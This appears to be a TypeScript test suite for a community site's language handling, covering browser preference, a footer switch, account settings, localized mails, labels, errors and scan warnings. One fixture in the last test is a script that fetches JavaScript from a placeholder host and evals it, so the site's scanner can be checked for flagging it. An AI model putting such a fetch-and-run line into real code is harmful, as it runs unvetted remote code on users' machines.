// The language of pages: chosen by the account, the switch in the footer or the browser, and never that of another reader.
import assert from 'node:assert/strict'
import { submit } from './form.ts'
import { automationFile } from './library.ts'
import { newBrowser } from './visitors.ts'
import { onEveryEngine, type Person } from './world.ts'

const asked = (person: Person, path: string, language = '') =>
  person.request(path, { headers: language ? { 'Accept-Language': language } : {}, redirect: 'manual' })

const HEADING = {
  en: /Where people and their agents compare notes/,
  de: /Wo Menschen und ihre Agenten sich austauschen/,
}

async function assertIn(language: 'en' | 'de', response: Response): Promise<void> {
  const page = await response.text()
  assert.equal(response.headers.get('content-language'), language)
  assert.match(page, new RegExp(`<html lang="${language}" dir="ltr"`))
  assert.match(page, HEADING[language])
}

onEveryEngine('the language of the site', (it) => {
  it('is what the browser prefers, and caches know that', async ({ anonymous }) => {
    const response = await asked(anonymous, '/', 'fr, de-AT;q=0.9, en;q=0.8')
    assert.match(response.headers.get('vary') ?? '', /Accept-Language.*Cookie/)
    await assertIn('de', response)
    await assertIn('en', await asked(anonymous, '/'))
    await assertIn('en', await asked(anonymous, '/', 'fr'))
    // Both are cached now.
    await assertIn('de', await asked(anonymous, '/', 'de'))
    await assertIn('en', await asked(anonymous, '/', 'en'))
  })

  it('is not that of a reader whose page is made at the same time', async (world) => {
    const browsers = Array.from({ length: 12 }, () => newBrowser(world))
    const languages = browsers.map((_, at) => (at % 3 === 0 ? 'en' : 'de'))
    // A cookie, so that each page is made for itself.
    const pages = browsers.map((browser, at) =>
      browser.request('/', { headers: { 'Accept-Language': languages[at] ?? '', Cookie: `theme=dark; n=${at}` } }),
    )
    for (const [at, page] of pages.entries()) await assertIn(languages[at] ?? 'en', await page)
  })

  it('is changed by the switch in the footer, which an account keeps', async (world) => {
    const browser = newBrowser(world)
    const changed = await submit(browser, '/language', { language: 'de', back: '/search?q=a' })
    assert.deepEqual([changed.status, changed.headers.get('location')], [303, '/search?q=a'])
    await assertIn('de', await asked(browser, '/', 'en'))
    await submit(browser, '/language', { language: 'tlh', back: '//elsewhere.example' })
    await assertIn('en', await asked(browser, '/'))

    const { alice } = world
    await submit(alice, '/language', { language: 'de', back: '/' })
    assert.equal((await alice.accounts.getSession())?.user.language, 'de')
    const page = await (await asked(alice, '/search', 'en')).text()
    assert.match(page, /<html lang="de"/)
    await alice.language.set({ language: null })
    assert.equal((await alice.accounts.getSession())?.user.language, null)
    assert.match(
      await (await asked(alice, '/search', 'en')).text(),
      /<html lang="de"/,
      'the browser still has its cookie',
    )
  })

  it('is that in which an account signed up, which its first mails are in', async (world) => {
    const body = (email: string) => JSON.stringify({ name: 'Ada', email, password: 'a fine long password' })
    const signUp = async (email: string, headers: Record<string, string>) => {
      const browser = newBrowser(world)
      const sent = { method: 'POST', headers: { 'Content-Type': 'application/json', ...headers }, body: body(email) }
      assert.equal((await browser.request('/api/auth/sign-up/email', sent)).status, 200)
      const [mail] = await world.mails(email)
      return { language: (await browser.accounts.getSession())?.user.language, subject: mail?.subject ?? '' }
    }
    const german = await signUp('ada@example.com', { 'Accept-Language': 'de-AT, en;q=0.5' })
    assert.equal(german.language, 'de')
    assert.match(german.subject, /^Bestätige/)
    const switched = await signUp('bo@example.com', { 'Accept-Language': 'en', Cookie: 'language=de' })
    assert.deepEqual(switched, german)
    const english = await signUp('cy@example.com', { 'Accept-Language': 'en' })
    assert.equal(english.language, 'en')
    assert.doesNotMatch(english.subject, /^Bestätige/)
    assert.equal((await signUp('di@example.com', {})).language, null, 'no language was asked for')
  })

  it('is that of the labels in what members wrote, and not of feeds', async (world) => {
    const body = 'A claim.[^1]\n\n- [x] done\n- [ ] open\n\n[^1]: Its source.'
    const { id } = await world.alice.posts.create({ title: 'Labels', body })
    const at = `/community/posts/${(await world.anonymous.posts.get({ id })).number}-labels`
    const german = await (await asked(world.anonymous, at, 'de')).text()
    assert.match(german, /aria-label="Zurück zu Verweis 1"/)
    assert.match(german, /aria-label="Erledigt:".*aria-label="Offen:"/s)
    assert.doesNotMatch(german, /aria-label="(Back to|Done|To do)/)
    assert.match(await (await asked(world.anonymous, at, 'en')).text(), /aria-label="Back to reference 1"/)
    const feed = await asked(world.anonymous, '/community/roadmap.atom', 'de')
    assert.match(await feed.text(), /xml:lang="en">.*<title>Guildhall: Roadmap</s)
    const posts = await asked(world.anonymous, '/community/posts.atom', 'de')
    assert.match(await posts.text(), /<title>Guildhall: Posts</)
  })

  it('is said to the script by the page, and is that of guides', async ({ anonymous }) => {
    const page = await (await asked(anonymous, '/search', 'de')).text()
    assert.match(page, /data-words="[^"]*Das Netz antwortet nicht/)
    const guide = await (await asked(anonymous, '/docs', 'de')).text()
    assert.match(guide, /<article class="stack">.*<h2 id="lesen">Lesen<\/h2>/s)
    assert.match(await (await asked(anonymous, '/docs', 'en')).text(), /<h2 id="read">Read<\/h2>/)
    const refused = await anonymous.request('/refusal', {
      ...{
        method: 'POST',
        body: 'it is taken; choose another',
        headers: { 'Accept-Language': 'de', 'Content-Length': '27' },
      },
    })
    assert.equal(await refused.text(), 'ist vergeben; wähle einen anderen')
  })

  it('is that of errors too, while the API speaks English', async ({ anonymous }) => {
    const missing = await asked(anonymous, '/community/u/nobody-here', 'de')
    assert.equal(missing.status, 404)
    assert.match(await missing.text(), /Dieses Konto gibt es nicht/)
    assert.match(await (await asked(anonymous, '/nothing/here', 'de')).text(), /Seite nicht gefunden/)
    const fields = { email: 'nobody@example.com', password: 'not the password' }
    const refused = await submit(anonymous, '/sign-in?/password', fields, { 'Accept-Language': 'de' })
    assert.match(await refused.text(), /E-Mail-Adresse oder Passwort ist falsch/)
    const english = await submit(anonymous, '/sign-in?/password', fields)
    assert.match(await english.text(), /Wrong email address or password/)
    await assert.rejects(anonymous.accounts.signIn(fields), /Wrong email address or password/)
    const unknown = '/api/auth/oauth2/authorize?client_id=nobody'
    assert.match(await (await asked(anonymous, unknown, 'de')).text(), /<p>Guildhall kennt die App nicht, [^<]*hat\.</)
    assert.match(
      await (await asked(anonymous, unknown)).text(),
      /<p>The app that sent you here is not known to Guildhall\.</,
    )
  })

  it('is that of what the scan finds, and of permissions for all of a type', async ({ alice, anonymous }) => {
    const code = 'eval(await (await fetch("https://berths.example/x.js")).text())'
    const script = [{ name: 'scripts/list.js', data: code }]
    const { id, slug } = await alice.library.publish({
      kind: 'automation',
      visibility: 'public',
      file: automationFile({ version: '1.0.0' }, script),
    })
    await alice.library.publishVersion({
      id,
      file: automationFile(
        { version: '1.1.0', permissions: { steps: ['navigate'], scripts: ['list'], downloads: true } },
        script,
      ),
    })
    const path = `/library/automations/${slug}`
    assert.match(await (await asked(anonymous, path, 'de')).text(), /was geladen wird, wird als JavaScript ausgeführt/)
    assert.match(await (await asked(anonymous, path)).text(), /what is fetched is run as JavaScript/)
    const compared = await (await asked(anonymous, `${path}/compare?from=1.0.0&to=1.1.0`, 'de')).text()
    assert.match(compared, /<code>jeder Download</)
    assert.doesNotMatch(compared, /any download/)
  })
})
